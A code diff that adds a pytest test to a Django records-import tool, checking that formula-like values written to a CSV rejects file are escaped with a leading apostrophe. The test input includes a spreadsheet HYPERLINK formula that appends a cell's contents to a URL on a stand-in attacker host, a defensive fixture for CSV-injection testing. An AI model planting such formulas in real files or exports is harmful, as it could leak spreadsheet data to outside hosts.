@@ -209,6 +209,25 @@ def test_rejects_file_holds_each_issue_with_the_row_as_sent(systems: dict, examp
     assert rows[2]["detail"] == "unknown event type: must be rejected"
 
 
+@pytest.mark.django_db
+def test_rejects_file_writes_a_value_a_spreadsheet_would_run_as_text(systems: dict, tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    extract = write_extract(tmp_path / "x", {"people.csv": people_file(
+        people_row("P1", given_name=hostile, sex="?"), people_row("P2", source_system="@SUM(1,1)"),
+    )})
+
+    result = import_extract(extract)
+
+    assert result.rejects_path is not None
+    with result.rejects_path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [(r["line"], r["given_name"], r["source_system"]) for r in rows] == [
+        ("2", "'" + hostile, "police-records"), ("3", "", "'@SUM(1,1)"),
+    ]
+    assert rows[1]["reason"].startswith("unknown source_system")
+    assert SourceRecord.objects.get().given_name == hostile  # what the hub holds is what was sent
+
+
 # --- Later extracts ------------------------------------------------------------------------------
 
 
